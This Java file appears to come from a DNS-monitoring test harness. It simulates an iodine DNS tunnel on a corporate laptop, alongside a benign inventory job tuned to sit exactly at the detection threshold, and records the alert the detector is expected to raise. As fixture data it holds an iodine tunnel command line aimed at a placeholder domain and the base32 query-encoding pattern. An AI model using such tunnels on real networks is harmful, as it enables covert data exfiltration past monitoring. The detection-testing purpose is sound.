package io.roguedns.simulation.story;

import io.roguedns.event.Ticks;
import io.roguedns.finding.Severity;
import io.roguedns.simulation.row.Rows;
import io.roguedns.simulation.row.Rows.Ends;
import io.roguedns.simulation.story.DnsTraffic.Seen;
import io.roguedns.simulation.truth.AlertType;
import io.roguedns.simulation.truth.ExpectedAlert;
import io.roguedns.simulation.truth.Recording;
import io.roguedns.simulation.truth.Semantics;
import io.roguedns.simulation.world.Day;
import io.roguedns.simulation.world.Device;
import io.roguedns.simulation.world.Dice;
import io.roguedns.simulation.world.Fleet;
import io.roguedns.simulation.world.Network;
import io.roguedns.simulation.world.Program;
import io.roguedns.simulation.world.Program.RunsAs;
import io.roguedns.simulation.world.Question;
import io.roguedns.simulation.world.Resolver;
import io.roguedns.simulation.world.RunningProcess;
import io.roguedns.simulation.world.Session;
import io.roguedns.simulation.world.Site;
import java.util.List;

/** A tunnel through the company's own resolver: one socket, a thousand queries in five minutes. */
public final class IodineTunnel extends AdversaryStory {
  private static final Resolver RELAY = Resolver.INTERNAL_1;
  private static final String BASE32 = "abcdefghijklmnopqrstuvwxyz012345";
  private static final int EXACTLY_THE_THRESHOLD = 200;
  private static final Program TUNNEL =
      new Program(
          "iodine.exe",
          "c:\\users\\{user}\\downloads\\tools",
          "iodine.exe -f -r 10.0.0.1 t.quietharbour.test",
          null,
          "cmd.exe",
          RunsAs.USER);
  private static final Program INVENTORY =
      new Program(
          "inventory.exe",
          "c:\\program files\\inventory",
          "inventory.exe --resolve-all",
          "Corp Example",
          "taskhostw.exe",
          RunsAs.SYSTEM);

  private static final Telling FIRST =
      new Telling(List.of("lt-023", "lt-024"), List.of(), TUNNEL, "t.quietharbour.test", 0);

  public IodineTunnel() {
    this(FIRST);
  }

  public IodineTunnel(Telling telling) {
    super("iodine-tunnel", telling);
  }

  @Override
  public List<Device> victims(Fleet fleet) {
    return cast(fleet).subList(0, 1);
  }

  @Override
  public List<String> resolvers() {
    return List.of(RELAY.address());
  }

  @Override
  public Span span(Day day) {
    return new Span(day.at(13, 50), day.at(14, 35));
  }

  @Override
  public void play(Stage stage) {
    tunnel(stage, cast(stage.fleet()).get(0));
    inventory(stage, cast(stage.fleet()).get(1));
  }

  private void tunnel(Stage stage, Device laptop) {
    Day day = stage.day();
    Recording recording = stage.recording();
    Dice dice = stage.dice(laptop, name());
    Session session = stage.allDay(laptop, Network.OFFICE);
    long started = day.at(14, 5, 0, 1_730_442) + telling.delay();
    long stopped = day.at(14, 25) + telling.delay();
    RunningProcess tunnel = stage.run(laptop, telling.program(), started - 4 * Ticks.PER_SECOND);
    Ends socket = Ends.udp(session, dice.port(), RELAY.address(), 53);
    String process = tunnel.program().fileName();

    recording.add(Rows.connection(started, tunnel, "ConnectionSuccess", socket, null, null));
    recording.count(Semantics.KQL, started, laptop.name(), process, RELAY.address());
    stage.note(
        started,
        "`%s` on `%s` opens its only socket to 10.0.0.1; the sensor reports the connection once."
            .formatted(process, laptop.host()));
    // 200 a minute, unevenly.
    long pace = Ticks.PER_MINUTE / 200;
    long at = started + 5_000;
    int seen = 0;
    while (at < stopped) {
      seen++;
      recording.add(Rows.inspected(at, laptop, socket, question(dice), dice));
      recording.count(Semantics.KQL, at, laptop.name(), "", RELAY.address());
      // The connection row gives the process in its own bin only, and is part of the packets'
      // count.
      String known = Recording.inOneBin(started, at) ? process : "";
      recording.count(Semantics.STRICT, at, laptop.name(), known, RELAY.address());
      at += dice.between(pace / 2, pace + pace / 2);
    }
    recording.names(
        Ticks.bin(started, Ticks.PER_HOUR),
        laptop.name(),
        telling.registeredDomain(),
        "information",
        seen);
    stage.note(stopped, "The tunnel is closed, after 20 minutes and four bins.");
    stage.alert(
        new ExpectedAlert(
            AlertType.TUNNEL_IN_NAMES,
            laptop.name(),
            null,
            process,
            Severity.HIGH,
            Severity.CRITICAL));
  }

  private Question question(Dice dice) {
    String name =
        dice.text(2, BASE32)
            + dice.text((int) dice.between(18, 58), BASE32)
            + "."
            + telling.domain();
    return Question.nothing(name, dice.text((int) dice.between(16, 48), BASE32));
  }

  /** A job whose queries just don't exceed the threshold. */
  private void inventory(Stage stage, Device laptop) {
    Dice dice = stage.dice(laptop, name());
    DnsTraffic dns = stage.dns(dice);
    Session session = stage.allDay(laptop, Network.OFFICE);
    long started = stage.day().at(14, 10, 30, 0) + telling.delay();
    RunningProcess inventory = stage.run(laptop, INVENTORY, started);
    for (int i = 0; i < EXACTLY_THE_THRESHOLD; i++) {
      long at = started + (i + 1) * Ticks.PER_SECOND + dice.below(Ticks.PER_SECOND);
      Question question = Question.address(Site.any(dice));
      dns.ask(at, session, inventory, Resolver.INTERNAL_2, question, Seen.CONNECTION);
    }
    stage.note(
        started,
        ("`inventory.exe` on `%s` queries exactly 200 names at 10.0.0.2 within one bin: the"
                + " threshold, and not more.")
            .formatted(laptop.host()));
  }
}
